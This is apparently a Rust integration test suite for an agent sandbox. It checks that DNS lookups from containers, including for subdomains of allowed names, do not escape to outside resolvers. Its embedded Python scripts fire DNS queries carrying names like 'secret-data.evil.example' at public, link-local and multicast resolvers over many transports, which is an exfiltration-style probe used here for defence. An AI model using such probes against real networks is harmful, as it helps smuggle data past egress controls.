//! Nothing that a container looks up leaves it: the resolver of the world counts.

use understudy_integration_tests::stand::Agent;

use crate::{python, stand};

/// Asks for `name` in every way: types, transports, servers, families.
fn ask_everything(name: &str) -> String {
    format!(
        r#"
import socket, struct
name = "{name}"
def query(t):
    q = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0"
    for label in name.split("."): q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", t, 1)
answers = 0
for family, servers in ((socket.AF_INET, ("127.0.0.1", "8.8.8.8", "10.0.2.3", "203.0.113.7")), (socket.AF_INET6, ("::1", "2001:4860:4860::8888"))):
    for server in servers:
        for t in (1, 28, 16, 65, 10, 255):
            u = socket.socket(family, socket.SOCK_DGRAM); u.settimeout(2)
            try: u.sendto(query(t), (server, 53)); answers += bool(u.recv(512))
            except OSError: pass
            try:
                c = socket.create_connection((server, 53), 2); q = query(t); c.sendall(struct.pack(">H", len(q)) + q); answers += bool(c.recv(512))
            except OSError: pass
print(answers)
"#
    )
}

#[test]
fn no_query_leaves_whatever_is_asked_of_whom() {
    let stand = stand();
    let count = Agent::generic().run(&python(&ask_everything("secret-data.evil.example"))).unwrap();
    let count: usize = count.success().unwrap().trim().parse().unwrap();
    assert!(count > 0, "nothing answered: the test asked wrongly, or the sidecar's DNS is down");
    let leaked: Vec<_> = stand.queries().unwrap().into_iter().filter(|name| name.contains("evil")).collect();
    assert!(leaked.is_empty(), "{leaked:?}");
}

#[test]
fn labels_below_an_allowed_name_do_not_leave_either() {
    let stand = stand();
    let script = ask_everything("secret-data.api.example");
    Agent::generic().run(&python(&script)).unwrap().success().unwrap();
    let leaked: Vec<_> =
        stand.queries().unwrap().into_iter().filter(|name| name.contains("secret-data")).collect();
    assert!(leaked.is_empty(), "{leaked:?}");
}

#[test]
fn two_containers_do_not_share_addresses() {
    stand();
    let script = "import socket; a = socket.gethostbyname('api.example'); print(a)";
    let first = Agent::generic().start(&["sleep", "infinity"]).unwrap();
    let address = first.exec(&python(script)).unwrap().success().unwrap();
    let url = format!("https://{}/literal", address.trim());
    // nobody looked anything up in the second one
    let outcome = Agent::generic().run(&["curl", "-sSk", &url]).unwrap();
    crate::assert_nothing_arrived("/literal");
    assert!(!outcome.stdout.contains("\"host\""), "{}", outcome.text());
}

#[test]
fn ipv6_answers_do_not_stall_a_client() {
    stand();
    let script = "import socket; print(sorted({i[0].name for i in socket.getaddrinfo('api.example', 443)}))";
    assert_eq!(Agent::generic().run(&python(script)).unwrap().success().unwrap(), "['AF_INET']\n");
}

/// Every type and transport, to resolvers on the internet, of the host, link-local ones and its own; ends with the
/// number of answers.
const STRAIGHT: &str = r#"
import os, socket, struct, sys
name = sys.argv[1]
def query(t):
    q = os.urandom(2) + b"\x01\0\0\1\0\0\0\0\0\0"
    for label in name.split("."): q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", t, 1)
lo = socket.if_nametoindex("lo")
targets = [(socket.AF_INET, (a, 53)) for a in ("8.8.8.8", "127.0.0.53", "169.254.1.1", "10.0.2.3", "192.168.1.1", "255.255.255.255", "224.0.0.251")]
targets += [(socket.AF_INET6, (a, 53, 0, s)) for a, s in (("::1", 0), ("2001:4860:4860::8888", 0), ("fe80::1", lo), ("fd00::53", 0), ("::ffff:8.8.8.8", 0), ("ff02::fb", lo))]
answers = 0
for family, address in targets:
    # A, AAAA, TXT, NULL, ANY, HTTPS
    for t in (1, 28, 16, 10, 255, 65):
        u = socket.socket(family, socket.SOCK_DGRAM); u.settimeout(1)
        try: u.sendto(query(t), address); answers += bool(u.recv(512))
        except OSError: pass
        c = socket.socket(family, socket.SOCK_STREAM); c.settimeout(1)
        try: c.connect(address); q = query(t); c.sendall(struct.pack(">H", len(q)) + q); answers += bool(c.recv(512))
        except OSError: pass
# what else speaks DNS: mDNS, LLMNR, DNS over TLS and QUIC
for port in (5353, 5355, 853, 784, 8853):
    for family, a in ((socket.AF_INET, "8.8.8.8"), (socket.AF_INET6, "2001:4860:4860::8888"), (socket.AF_INET, "224.0.0.251")):
        u = socket.socket(family, socket.SOCK_DGRAM); u.settimeout(1)
        try: u.sendto(query(1), (a, port)); answers += 1000 * bool(u.recv(512))
        except OSError: pass
print(answers)
"#;

fn asked_for(part: &str) -> Vec<String> {
    stand().queries().unwrap().into_iter().filter(|name| name.contains(part)).collect()
}

#[test]
fn straight_queries_from_an_exec_do_not_leave() {
    stand();
    let container = Agent::generic().start(&["sleep", "infinity"]).unwrap();
    for name in ["straight.evil.example", "straight.wild.example"] {
        let command = [&python(STRAIGHT)[..], &[name]].concat();
        let text = container.exec(&command).unwrap().success().unwrap();
        let answers: usize = text.trim().parse().unwrap();
        assert!((1..1000).contains(&answers), "{name}: {answers}");
    }
    assert_eq!(asked_for("straight"), Vec::<String>::new());
}

#[test]
fn a_thousand_labels_below_an_allowed_wildcard_do_not_leave() {
    stand();
    let script = "import os, socket\nfor i in range(1000): socket.gethostbyname('label-' + os.urandom(20).hex() + '.wild.example')\nprint('asked')";
    assert_eq!(Agent::generic().run(&python(script)).unwrap().success().unwrap(), "asked\n");
    assert_eq!(asked_for("label-"), Vec::<String>::new());
    // the resolver counts: a permitted request is looked up, by the sidecar
    Agent::generic().run(&["curl", "-sS", "https://counted.wild.example/counted"]).unwrap();
    assert!(!asked_for("counted").is_empty());
}
